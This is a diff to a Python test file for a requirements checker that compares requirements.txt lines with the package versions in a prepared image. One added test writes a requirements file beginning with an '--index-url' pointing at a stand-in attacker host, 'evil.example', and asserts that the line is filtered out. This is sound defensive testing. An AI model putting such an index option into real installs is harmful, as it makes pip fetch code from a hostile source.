@@ -23,7 +23,6 @@ IMAGE = {"numpy": "1.26.4", "gym": "0.26.2", "PyYAML": "6.0.2", "scipy": "1.17.0
         "# nothing\n\n",
         "numpy\ngym==0.26.2\n",
         "NumPy >= 1.20, < 2 # new enough\r\nPy_yaml\n".replace("Py_yaml", "pyyaml"),
-        "numpy[extra]\n",
         "gym_raas\ngym-raas\n",
         "scipy>=1.16\n",
         "torch; sys_platform == 'win32'\n",
@@ -47,6 +46,7 @@ def test_what_the_image_has_is_enough(text: str, tmp_path: Path) -> None:
         ("torch\nnumpy\n", ["torch"]),
         ("numpy>=2\n", ["numpy>=2 (there is 1.26.4)"]),
         ("numpy==1.26.3\ngym<0.26", ["numpy==1.26.3 (there is 1.26.4)", "gym<0.26 (there is 0.26.2)"]),
+        ("numpy[extra]\n", ["numpy[extra]"]),
         ("torch; sys_platform == 'linux'\n", ["torch"]),
         ("torch; python_version >= '3.11'\n", ["torch"]),
     ],
@@ -79,6 +79,15 @@ def test_lines_that_cant_be_checked_are_refused_with_their_number(text: str, mes
     assert message in str(refused.value)
     assert "requirements.txt, line" in str(refused.value)
     assert "\x1b" not in str(refused.value)
+
+
+def test_pip_is_asked_for_plain_requirements_only(tmp_path: Path) -> None:
+    path = tmp_path / "requirements.txt"
+    path.write_text("--index-url https://evil.example/simple\nNumPy>=1.20 # here\nFlask[async] >=2,<4 --hash=sha256:00\n"
+                    "pywin32; sys_platform == 'win32'\nflask[async]<4,>=2\n")  # fmt: skip
+    assert requirements.wanted(path, IMAGE) == "flask[async]<4,>=2\nnumpy>=1.20\n"
+    path.write_text("numpy\n")
+    assert requirements.wanted(path, IMAGE) == ""
 
 
 @given(st.text(max_size=200))
